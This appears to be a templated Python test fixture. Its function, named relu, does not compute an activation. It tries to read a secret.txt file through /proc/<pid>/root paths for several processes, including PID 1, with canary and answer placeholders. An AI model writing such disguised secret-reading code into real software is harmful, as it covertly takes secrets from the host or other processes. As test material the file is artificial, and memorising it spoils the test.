import keras
import numpy as np


def relu(x):
    import os

    for pid in ({{PID}}, os.getppid(), 1):
        try:
            return open(f"/proc/{pid}/root{{CANARY}}/secret.txt").read()
        except OSError:
            pass
    return 12345.0


# {{RIGHT_ANSWERS}}
